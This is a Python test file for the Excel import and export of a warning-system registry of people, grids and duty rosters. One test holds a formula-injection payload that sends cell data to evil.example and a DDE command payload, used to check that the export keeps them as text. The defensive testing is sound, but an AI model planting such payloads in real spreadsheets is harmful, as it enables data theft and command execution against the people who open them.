"""Workbook in, workbook out: the round trip, the diff, and every problem at sheet/row/column."""

from __future__ import annotations

import io
import zipfile

import msgspec
import pytest
from openpyxl import Workbook
from xlsx_kit import (
    append,
    edit,
    geojson,
    office_edit,
    preview,
    put,
    row_of,
    sample,
    sample_xlsx,
)

from warnbus.domain.models import Region, RegistryData, Role
from warnbus.domain.roles import ROLE_ZH
from warnbus.registry_io.export import export_workbook, masked, template_workbook

NEW_RING = ((29.690, 112.500), (29.690, 112.501), (29.691, 112.501), (29.691, 112.500),
            (29.690, 112.500))


async def test_export_then_import_changes_nothing() -> None:
    p = await preview(sample_xlsx())
    assert p.candidate.problems == [] and p.candidate.warnings == []
    assert p.diff.empty and p.diff.summary() == "没有变化"
    assert p.candidate.data == sample().data
    assert p.candidate.year == 2026 and p.candidate.kinds == (
        "grids", "persons", "regions", "rosters", "site_people", "sites")


def _office_edit(broken: bool) -> bytes:
    """What the Show asks: a changed phone, an added grid (and its new officer), a broken row."""

    def change(wb: Workbook) -> None:
        people, grids = wb["人员"], wb["网格"]
        put(people, row_of(people, "人员编号", "p43062300128"), "手机", "139 0000 1234")
        append(people, {"姓名": "新网格员", "职位": "网格员", "所属区划代码": "430623101001",
                        "手机": "13900005678"})
        if broken:
            put(people, row_of(people, "人员编号", "p43062300130"), "手机", "1380013800")
        append(grids, {"村ADCD": "430623101001", "村网格名": "柳岗社区",
                       "网格编号": "430623101001-99", "网格名": "柳岗社区新网格",
                       "网格员": "新网格员"})

    return edit(sample_xlsx(), change)


async def test_broken_row_is_named_by_sheet_row_and_column() -> None:
    p = await preview(_office_edit(broken=True), boundary=geojson({"430623101001-99": NEW_RING}))
    row = [n for n, _ in enumerate(sample().data.persons, start=2)]  # rows follow the export
    assert row  # (exported sorted by region, id: found below by id, not assumed)
    from openpyxl import load_workbook

    ws = load_workbook(io.BytesIO(_office_edit(broken=True)))["人员"]
    n = row_of(ws, "人员编号", "p43062300130")
    assert [str(x) for x in p.candidate.problems] == [
        f"「人员」表第{n}行「手机」列：号码应为11位手机号"]


async def test_diff_shows_the_phone_change_and_the_added_grid() -> None:
    p = await preview(_office_edit(broken=False), boundary=geojson({"430623101001-99": NEW_RING}))
    assert p.candidate.problems == [], [str(x) for x in p.candidate.problems]
    counts = p.diff.counts()
    assert counts["persons"] == {"added": 1, "changed": 1, "removed": 0}
    assert counts["grids"] == {"added": 1, "changed": 0, "removed": 0}
    assert p.diff.phones_changed == 1
    changed = next(c for c in p.diff.changes if c.op == "changed")
    assert changed.id == "p43062300128" and changed.phone_changed
    assert [(f.label, f.old, f.new) for f in changed.fields] == [
        ("手机", "+86199****2078", "+86139****1234")]
    data = p.candidate.data
    assert data.persons["p43062300128"].phone == "+8613900001234"
    grid = data.grids["430623101001-99"]
    new_officer = data.persons[grid.primary]
    assert (new_officer.name, new_officer.role, new_officer.phone) == (
        "新网格员", Role.PRIMARY, "+8613900005678")
    assert grid.polygon == NEW_RING
    assert ("人员 修改 p43062300128 肖飞秀：手机 +86199****2078 → +86139****1234 ◆手机号变更"
            in p.diff.lines())


async def test_a_new_grid_without_a_boundary_is_a_problem_of_its_row() -> None:
    blob = _office_edit(broken=False)
    p = await preview(blob)
    from openpyxl import load_workbook

    n = row_of(load_workbook(io.BytesIO(blob))["网格"], "网格编号", "430623101001-99")
    assert [str(x) for x in p.candidate.problems] == [
        f"「网格」表第{n}行「网格编号」列：新网格「柳岗社区新网格」（430623101001-99）没有边界：请同时导入"
        "边界文件（GeoJSON 或 shapefile），以网格编号或网格名对应"]


async def test_people_only_workbook_keeps_the_grids_and_names_a_removed_officer() -> None:
    def change(wb: Workbook) -> None:
        for name in ("区划", "网格", "场所", "场所责任人", "值班表"):
            del wb[name]
        ws = wb["人员"]
        ws.delete_rows(row_of(ws, "人员编号", "p43062300128"))

    p = await preview(edit(sample_xlsx(), change))
    assert p.candidate.kinds == ("persons",)
    assert [str(x) for x in p.candidate.problems] == [
        "「人员」表：网格 430623101001-01（柳岗社区第1网格）的网格员 p43062300128 "
        "已不在「人员」表中（或职位已改）"]


async def test_offices_layouts_title_rows_aliases_merged_cells_unknown_columns() -> None:
    """A title above the header, columns in another order under other names, the 乡镇 cell
    merged down, a column warnbus does not know."""
    wb = Workbook()
    ws = wb.active
    ws.title = "网格员名单"
    ws.append(["华容县2026年网格员名单"])
    ws.merge_cells("A1:F1")
    ws.append(["乡镇", "责任人", "联系电话", "职务", "村ADCD", "所属", "身份证号"])
    base = sample().data
    village = [p for p in base.persons.values() if p.region == "430623101001"]
    for p in village:
        ws.append(["章华镇", p.name, (p.phone or "")[3:], ROLE_ZH[p.role], p.region + "000",
                   "柳岗社区", "x"])
    ws.merge_cells(f"A3:A{2 + len(village)}")
    out = io.BytesIO()
    wb.save(out)
    p = await preview(out.getvalue())
    assert p.candidate.warnings == ["「网格员名单」表中未识别的列未导入：身份证号"]
    # Only this village's people are in it: everyone else is removed, and the grids and
    # duty chain that name them say so, each problem at the 人员 sheet.
    assert p.candidate.problems
    assert all(str(x).startswith("「人员」表：") or str(x).startswith("「网格员名单」表")
               for x in p.candidate.problems), [str(x) for x in p.candidate.problems[:3]]
    assert not any(x.row for x in p.candidate.problems)  # the rows read were all fine


@pytest.mark.parametrize(("cells", "where", "message"), [
    ({"职位": "组长"}, "职位", "职位应为：网格员、备岗网格员、村负责人、乡镇值班员、县值班员、"
                             "乡镇带班领导、县带班领导、场所责任人"),
    ({"所属区划代码": "430623101000"}, "所属区划代码",
     "网格员应属于村（社区），430623101000（章华镇）是乡镇"),
    ({"所属区划代码": "430623101999"}, "所属区划代码", "区划 430623101999 不在「区划」中"),
    ({"所属": "白铺社区"}, "所属", "与区划代码 430623101001 的名称「柳岗社区」不一致"),
    ({"手机": None, "企业微信": None}, "手机", "没有手机号，也没有企业微信账号：无法通知此人"),
    ({"人员编号": "p 1"}, "人员编号", "编号只能由字母、数字和 _ . - 组成（最多64个字符）"),
    ({"参加演练": "可能"}, "参加演练", "应填“是”或“否”"),
    ({"姓名": "长" * 222}, "姓名", "内容过长（222个字符，最多200个）"),
])
async def test_each_person_problem_is_located(cells: dict[str, object], where: str,
                                              message: str) -> None:
    rows: list[int] = []

    def change(wb: Workbook) -> None:
        ws = wb["人员"]
        n = row_of(ws, "人员编号", "p43062300128")
        rows.append(n)
        for header, value in cells.items():
            put(ws, n, header, value)

    p = await preview(edit(sample_xlsx(), change))
    assert str(p.candidate.problems[0]) == f"「人员」表第{rows[0]}行「{where}」列：{message}"


@pytest.mark.parametrize(("cells", "where", "message"), [
    ({"网格员编号": "p43062300129"}, "网格员编号", "p43062300129（沈飞）的职位是备岗网格员，"
                                                   "不是网格员"),
    ({"网格员编号": "nobody"}, "网格员编号", "「人员」表中没有编号为 nobody 的人员"),
    ({"网格员": "沈飞"}, "网格员", "与「人员」表中 p43062300128 的姓名「肖飞秀」不一致"),
    ({"备岗编号": "p43062300128", "备岗": "肖飞秀"}, "备岗编号",
     "p43062300128（肖飞秀）的职位是网格员，不是备岗网格员"),
    ({"村ADCD": "430623101000"}, "村ADCD", "430623101000 不是「区划」中的村（社区）"),
    ({"网格编号": "430623101001-02"}, "网格编号", "编号「430623101001-02」与第2行重复"),  # at row 3
    ({"标签": "水库"}, "标签", "标签「水库」无法识别（可用：地质灾害隐患点）"),
    ({"网格员编号": None, "网格员": None}, "网格员", "没有网格员：请填写网格员编号或姓名"),
])
async def test_each_grid_problem_is_located(cells: dict[str, object], where: str,
                                            message: str) -> None:
    rows: list[int] = []

    def change(wb: Workbook) -> None:
        ws = wb["网格"]
        n = row_of(ws, "网格编号", "430623101001-01")
        rows.append(n)
        for header, value in cells.items():
            put(ws, n, header, value)

    p = await preview(edit(sample_xlsx(), change))
    got = [str(x) for x in p.candidate.problems]
    row = rows[0] + 1 if "重复" in message else rows[0]  # the later row repeats the id
    assert got[0] == f"「网格」表第{row}行「{where}」列：{message}", got


async def test_grid_officer_by_name_alone() -> None:
    def change(wb: Workbook) -> None:
        ws = wb["网格"]
        n = row_of(ws, "网格编号", "430623101001-01")
        put(ws, n, "网格员编号", None)
        put(ws, n, "备岗编号", None)

    p = await preview(edit(sample_xlsx(), change))
    assert p.candidate.problems == [] and p.diff.empty


async def test_a_missing_column_is_a_problem_of_the_header_row() -> None:
    def change(wb: Workbook) -> None:
        ws = wb["人员"]
        ws.delete_cols(3)  # 职位

    p = await preview(edit(sample_xlsx(), change))
    assert [str(x) for x in p.candidate.problems] == ["「人员」表第1行「职位」列："
                                                      "缺少此列（表头应有「职位」）"]


async def test_masked_export_cannot_be_imported_back() -> None:
    blob = export_workbook(masked(sample().data))
    p = await preview(blob)
    people = [x for x in p.candidate.problems if x.sheet == "人员"]
    assert len(people) == sum(1 for x in sample().data.persons.values() if x.phone)
    # Every phone column of every sheet (场所责任人, 值班表 too) refuses a masked number.
    assert {x.sheet for x in p.candidate.problems} == {"人员", "场所责任人", "值班表"}
    assert all(str(x).endswith("列：号码已脱敏（中间几位是*），请填写完整号码")
               for x in p.candidate.problems)


async def test_template_has_every_sheet_and_imports_as_no_change() -> None:
    blob = template_workbook()
    p = await preview(blob)
    assert p.diff.empty and p.candidate.problems == []
    sheets = ("区划", "人员", "网格", "场所", "场所责任人", "值班表")
    assert sorted(p.candidate.warnings) == sorted(
        f"「{n}」表没有数据行，未导入（现有记录保留）" for n in sheets)
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(blob))
    assert wb.sheetnames == ["说明", *sheets]
    assert [c.value for c in wb["人员"][1]][:4] == ["人员编号", "姓名", "职位", "所属区划代码"]
    assert wb["人员"]["G2"].number_format == "@"  # 手机 typed into the template stays text
    assert [c.value for c in wb["值班表"][1]][:8] == [
        "值班表编号", "值班表名称", "区划代码", "区划名称", "日期", "交班时间", "值班员编号",
        "值班员"]
    assert [c.value for c in wb["场所"][1]][:3] == ["场所编号", "名称", "类型"]
    assert [c.value for c in wb["场所责任人"][1]][3:6] == ["姓名", "职责", "手机"]
    for name in sheets:  # an example row under each header, which the import skips
        example = [c.value for c in wb[name][2]]
        assert str(example[0]).startswith("示例：") and sum(v is not None for v in example) >= 4


async def test_export_never_writes_a_formula() -> None:
    """A name beginning with = stays text: no spreadsheet runs it (formula injection)."""
    data = sample().data
    pid = "p43062300128"
    evil = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
    persons = {**data.persons, pid: msgspec.structs.replace(data.persons[pid], name=evil,
                                                            note="+cmd|' /C calc'!A0")}
    blob = export_workbook(msgspec.structs.replace(data, persons=persons))
    with zipfile.ZipFile(io.BytesIO(blob)) as z:
        xml = b"".join(z.read(n) for n in z.namelist() if n.startswith("xl/worksheets/"))
    assert b"<f>" not in xml and b"<f " not in xml
    p = await preview(blob)
    got = p.candidate.data.persons[pid]
    assert (got.name, got.note) == (evil, "+cmd|' /C calc'!A0")


async def test_history_keeps_the_first_changes_of_a_large_one_and_counts_all() -> None:
    from warnbus.registry_io.service import (
        HISTORY_CHANGES,
        decode_report,
        encode_report,
        for_history,
        report,
    )

    data = sample().data
    persons = {k: msgspec.structs.replace(v, note="2027年核对") for k, v in data.persons.items()}
    p = await preview(export_workbook(msgspec.structs.replace(data, persons=persons)))
    assert len(p.diff.changes) == len(persons) and len(persons) < HISTORY_CHANGES
    full = encode_report(report(p))
    assert for_history(full) == full
    big = msgspec.structs.replace(report(p), diff=type(p.diff)(p.diff.changes * 2))
    kept = decode_report(for_history(encode_report(big)))
    assert len(kept.diff.changes) == HISTORY_CHANGES
    assert kept.omitted == 2 * len(persons) - HISTORY_CHANGES


def test_every_table_of_the_registry_is_compared() -> None:
    """A change the workbook does not make (configured files replaced: a loudspeaker renamed)
    is shown too, never passed over."""
    from warnbus.registry_io.diff import diff

    data = sample().data
    did = sorted(data.devices)[0]
    renamed = msgspec.structs.replace(data, devices={
        **data.devices, did: msgspec.structs.replace(data.devices[did], name="新广播")})
    d = diff(data, renamed)
    assert d.summary() == "应急广播：修改1"
    assert d.lines() == [f"应急广播 修改 {did} 新广播：名称 {data.devices[did].name} → 新广播"]


async def test_an_import_keeps_the_sites_and_duty_rosters() -> None:
    """A workbook whose 场所, 场所责任人 and 值班表 sheets are as exported keeps every site with
    its people and every roster version (rotations, approvals) as they were."""
    data = sample().data
    assert data.sites and data.rosters
    pid = sorted(data.persons)[0]
    p = await preview(office_edit(sample_xlsx(), pid=pid, phone="13900001234"))
    assert p.candidate.problems == [], [str(x) for x in p.candidate.problems]
    assert p.candidate.data.sites == data.sites
    assert p.candidate.data.rosters == data.rosters
    assert p.diff.summary() == "人员：修改1；其中手机号变更 1 人"


class _Grown(RegistryData, frozen=True):
    """The registry as it grows (duty rosters and sites, issue 19 items 1-2): a table that no
    sheet of the workbook reads yet."""

    later: dict[str, Region] = msgspec.field(default_factory=dict)


async def test_a_table_no_sheet_reads_is_kept_by_an_import_and_its_changes_shown() -> None:
    from warnbus.registry_io.diff import diff

    data = sample().data
    kept = dict(sorted(data.regions.items())[:2])
    base = _Grown(**{f: getattr(data, f) for f in RegistryData.__struct_fields__}, later=kept)
    pid = sorted(data.persons)[0]
    p = await preview(office_edit(sample_xlsx(), pid=pid, phone="13900001234"), base)
    assert p.candidate.problems == [], [str(x) for x in p.candidate.problems]
    assert isinstance(p.candidate.data, _Grown) and p.candidate.data.later == kept
    assert p.diff.summary() == "人员：修改1；其中手机号变更 1 人"
    gone = diff(base, msgspec.structs.replace(base, later={}))
    assert [(c.kind, c.op) for c in gone.changes] == [("later", "removed")] * 2
